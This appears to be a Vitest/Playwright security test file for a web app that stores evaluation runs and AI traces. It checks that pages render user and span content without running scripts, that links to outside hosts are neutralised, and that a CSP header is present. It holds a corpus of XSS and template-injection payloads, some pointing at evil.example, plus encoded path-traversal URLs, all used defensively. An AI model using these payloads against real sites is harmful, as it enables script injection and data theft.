import { readdir, readFile, stat } from 'node:fs/promises';
import { promisify } from 'node:util';
import { gzip } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMetric, createProject, createRun, ok } from '../../server/test/fixtures.ts';
import { attributesOf, newTraceId, post, requestOf, spanId } from '../../server/test/otlp.ts';
import { openSite, type Site } from './site.ts';

let site: Site;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.close());

/** What others have run in pages like these. Each would call `pwned` or ask evil.example for something. */
const corpus = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()><img src="https://evil.example/a.png">',
  '<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe><iframe src="https://evil.example"></iframe>',
  '<a href="javascript:pwned()">click</a>',
  '[click](javascript:pwned()) ![image](https://evil.example/b.png)',
  '[click](data:text/html,<script>pwned()</script>)',
  '![x](x"onerror="pwned())',
  '<style>@import "https://evil.example/c.css";*{background:url(https://evil.example/d)}</style>',
  '<link rel=stylesheet href=https://evil.example/e.css><base href=https://evil.example>',
  '<form action=https://evil.example><button autofocus onfocus=pwned()>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<details open ontoggle=pwned()>x</details><video autoplay src=https://evil.example/f onerror=pwned()>',
  '"><script src=https://evil.example/g.js></script>',
  '{{constructor.constructor("pwned()")()}} <%= pwned() %>',
  '`</code><img src=x onerror=pwned()>`\n\n```html\n<script>pwned()</script>\n```',
];

describe('what clients write', () => {
  it('runs no script and sends nothing out, on any page and in every field', async () => {
    const { api } = site;
    const { page } = await site.member('admin');
    await page.addInitScript('window.pwned = () => { window.wasPwned = true; }');
    const outside: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(site.url) && !/^(data|blob):/.test(request.url()))
        outside.push(request.url());
    });
    const all = corpus.join('\n\n');
    const project = await createProject(api);
    await ok(api('PATCH', `/projects/${project.id}`, { name: all, description: all }));
    const metric = await createMetric(api, project.id, {
      name: all,
      evalType: 'human',
      outputType: 'boolean',
      guidelines: all,
      description: all,
    });
    const run = await createRun(api, project.id, [metric.id]);
    await ok(api('PATCH', `/runs/${run.id}/details`, { notes: all }));
    const fields = Object.fromEntries(corpus.map((text, i) => [`${i} ${text}`, text]));
    const chat = corpus.map((content) => ({ role: content, content }));
    const items = [{ inputs: { chat, ...fields }, expected: fields, outputs: { ...fields, all } }];
    const { ids } = await ok(api('POST', `/runs/${run.id}/records/bulk-create`, { items }), 201);
    const score = { binaryScore: true, reasoning: all };
    await ok(api('PUT', `/records/${ids[0]}/scores/${run.metricVersionIds[0]}`, { score }));
    await ok(api('POST', `/records/${ids[0]}/annotations`, { rating: true, comment: all }), 201);
    for (const text of corpus.filter((each) => !each.includes(',') && each.length <= 256))
      await ok(api('POST', `/records/${ids[0]}/tags`, { text }), 201);
    const testset = await ok(
      api('POST', `/projects/${project.id}/testsets`, {
        name: all,
        description: all,
        jsonSchema: { type: 'object' },
        fieldMapping: { inputs: corpus, expected: [], metadata: [] },
      }),
      201,
    );
    await ok(api('POST', `/testsets/${testset.id}/testcases`, { items: [{ jsonData: fields }] }), 201);

    const base = `/projects/${project.id}`;
    for (const path of [
      '/projects',
      base,
      `${base}/records?record=${ids[0]}`,
      `${base}/runs/${run.id}`,
      `${base}/testsets/${testset.id}`,
      `${base}/metrics`,
      `${base}/metrics/${metric.id}`,
      `${base}/records/${ids[0]}`,
    ]) {
      await page.goto(path);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForLoadState('networkidle');
      expect(await page.evaluate('window.wasPwned'), path).toBeUndefined();
    }
    // The last page again, with every field as Markdown, the one look that makes elements of what it shows.
    for (const button of await page.getByRole('button', { name: 'Markdown', exact: true }).all())
      await button.click();
    const links = page.locator('main a').filter({ hasText: /^click$/ });
    await links.first().waitFor();
    for (const link of await links.all()) expect(await link.getAttribute('href')).toBeNull();
    expect(await page.evaluate('window.wasPwned')).toBeUndefined();
    expect(await page.locator('main img, main iframe, main svg[onload], main form[action]').count()).toBe(0);
    expect(outside).toEqual([]);
  }, 120_000);
});

describe('what instrumentations write', () => {
  it('runs no script and sends nothing out, in any field of a span, on any page that shows one', async () => {
    const { page } = await site.member('admin');
    await page.addInitScript('window.pwned = () => { window.wasPwned = true; }');
    const outside: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(site.url) && !/^(data|blob):/.test(request.url()))
        outside.push(request.url());
    });
    const project = await createProject(site.api);
    const all = corpus.join('\n\n');
    const fields = Object.fromEntries(corpus.map((text, i) => [`${i} ${text}`, text]));
    const traceId = newTraceId();
    const said = corpus.map((content) => ({ role: content, content, reasoning: content }));
    const calls = corpus.map((text, i) => ({
      id: `c${i}`,
      function: { name: text, arguments: JSON.stringify({ [text]: text }) },
    }));
    const messages = JSON.stringify([...said, { role: 'assistant', content: all, tool_calls: calls }]);
    const status = { code: 2, message: all };
    const common = {
      traceId,
      name: all,
      status,
      traceState: all,
      events: [{ name: all, attributes: fields }],
    };
    const links = [
      { traceId: newTraceId(), spanId: spanId(1), traceState: all, attributes: attributesOf(fields) },
    ];
    const agent = { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': all, ...fields };
    const spans = [
      { ...common, n: 1, links, attributes: agent },
      { ...common, n: 2, parent: 1, attributes: { ...agent, 'input.value': all, 'output.value': all } },
      {
        ...common,
        n: 3,
        parent: 2,
        attributes: {
          'gen_ai.operation.name': 'chat',
          'gen_ai.request.model': all,
          'gen_ai.provider.name': all,
          'gen_ai.input.messages': messages,
          'gen_ai.output.messages': messages,
          ...fields,
        },
      },
      ...corpus.map((text, i) => ({
        ...common,
        n: 10 + i,
        parent: 2,
        attributes: {
          'gen_ai.operation.name': 'execute_tool',
          'gen_ai.tool.name': text,
          'gen_ai.tool.call.id': `c${i}`,
          'gen_ai.tool.call.result': text,
        },
      })),
    ];
    const request = requestOf(spans, { 'dokima.project_id': project.id, 'service.name': all, ...fields });
    const answer = await post(site.app, site.organization.key, request);
    // The answer says that their long names were cut.
    expect(answer.status).toBe(200);
    const { data } = await ok(site.api('GET', `/projects/${project.id}/spans?root=true`));
    const { recordId } = data[0];
    const passage = { path: '/output/0/content', start: 0, text: corpus[0] };
    for (const on of [
      {},
      { passage },
      { passage: { ...passage, path: `/${all.replaceAll('/', '~1')}`.slice(0, 2000) } },
    ])
      await ok(
        site.api('POST', `/records/${recordId}/annotations`, {
          rating: true,
          comment: all,
          spanId: spanId(3),
          ...on,
        }),
        201,
      );

    const isClean = async (where: string) => {
      await page.waitForLoadState('networkidle');
      expect(await page.evaluate('window.wasPwned'), where).toBeUndefined();
      expect(
        await page
          .locator('main img, main iframe, main style, main link, main form[action], main script')
          .count(),
        where,
      ).toBe(0);
      for (const link of await page
        .locator('main a')
        .filter({ hasText: /^click$/ })
        .all())
        expect(await link.getAttribute('href'), where).toBeNull();
    };
    const base = `/projects/${project.id}`;
    await page.goto(`${base}/records/${recordId}?tab=conversation`);
    await page.getByRole('article').first().waitFor();
    await page.getByRole('button', { name: 'Expand all tool calls' }).click();
    for (const button of await page.getByRole('button', { name: /^Reasoning/ }).all()) await button.click();
    await isClean('conversation');
    const raw = page.getByRole('button', { name: /^Raw data/ });
    for (const n of [1, 2, 3, 10]) {
      for (const path of [
        `records/${recordId}?tab=timeline&span=${traceId}-${spanId(n)}`,
        `records/${recordId}?tab=spans&span=${traceId}-${spanId(n)}`,
        `traces/${traceId}?span=${spanId(n)}`,
      ]) {
        await page.goto(`${base}/${path}`);
        await raw.waitFor();
        // The browser remembers that it was unfolded.
        if ((await raw.getAttribute('aria-expanded')) === 'false') await raw.click();
        await page.getByRole('region', { name: 'Resource' }).waitFor();
        await isClean(path);
      }
    }
    await page.goto(`${base}/records/${recordId}?tab=spans&span=${spanId(3)}`);
    const list = page.getByRole('list', { name: 'Annotated passages' });
    await list.getByRole('button').first().click();
    await page.getByRole('dialog').waitFor();
    await isClean('a passage');
    await page.goto(`${base}/traces?open=${traceId}`);
    await page.waitForURL(/\/traces\/[0-9a-f]{32}/);
    await page.getByRole('article').first().waitFor();
    await isClean('a trace');
    for (const text of corpus)
      await page.goto(`${base}/traces?${new URLSearchParams({ name: text, min: text, open: text })}`);
    await page.getByRole('alert').waitFor();
    await isClean('the search of traces');
    expect(outside).toEqual([]);
  }, 120_000);
});

describe('the pages', () => {
  it('come with a policy under which an inline script does not run', async () => {
    const { page } = await site.visitor();
    const response = await page.goto('/sign-in');
    expect(response!.headers()['content-security-policy']).toMatch(/default-src 'none'; script-src 'self';/);
    await page.evaluate(`{
      const script = document.createElement('script');
      script.textContent = 'window.wasRun = true';
      document.body.append(script);
    }`);
    expect(await page.evaluate('window.wasRun')).toBeUndefined();
  });

  it('are cached forever if their name has a hash, requested again otherwise, and compressed', async () => {
    const get = (url: string, headers: Record<string, string> = {}) => site.app.app.inject({ url, headers });
    const index = await get('/', { accept: 'text/html' });
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(index.body)![1]!;
    expect(index.headers['cache-control']).toBe('no-cache');
    const accepted = { 'accept-encoding': 'gzip, br' };
    const asset = await get(script, accepted);
    expect(asset.headers).toMatchObject({
      'cache-control': 'public, max-age=31536000, immutable',
      'content-encoding': 'br',
    });
    expect((await get(script, { 'accept-encoding': 'gzip' })).headers['content-encoding']).toBe('gzip');
    expect((await get(script, { ...accepted, 'if-none-match': String(asset.headers.etag) })).statusCode).toBe(
      304,
    );
  });

  it('unknown paths of the API, of assets and for programs stay a 404, for browsers they are pages', async () => {
    const get = (url: string, accept: string) => site.app.app.inject({ url, headers: { accept } });
    const outside = [
      '/assets/..%2f..%2fpackage.json',
      '/assets/%2e%2e/%2e%2e/package.json',
      '/index.html.gz',
    ];
    for (const path of outside) expect([path, (await get(path, '*/*')).statusCode]).toEqual([path, 404]);
    for (const path of ['/api/v2/nothing', '/assets/nothing.js'])
      expect((await get(path, 'text/html')).statusCode).toBe(404);
    expect((await get('/projects/1', '*/*')).statusCode).toBe(404);
    for (const path of ['/projects/1', '/../../package.json', '/%2e%2e%2fpackage.json'])
      expect((await get(path, 'text/html')).body).toContain('<div id="root">');
  });

  it('begin with at most 190 kB of compressed script', async () => {
    const assets = new URL('../dist/assets/', import.meta.url);
    const index = await readFile(new URL('../dist/index.html', import.meta.url), 'utf8');
    const initial = [...index.matchAll(/(?:src|href)="\/assets\/([^"]+\.js)"/g)].map(([, name]) => name!);
    const sizes = await Promise.all(
      initial.map(async (name) => (await promisify(gzip)(await readFile(new URL(name, assets)))).length),
    );
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(190_000);
    // The editor and the spreadsheet reader are there, but elsewhere.
    const names = await readdir(assets);
    const editor = names.find((name) => name.startsWith('code-editor'))!;
    expect((await stat(new URL(editor, assets))).size).toBeGreaterThan(100_000);
  });
});
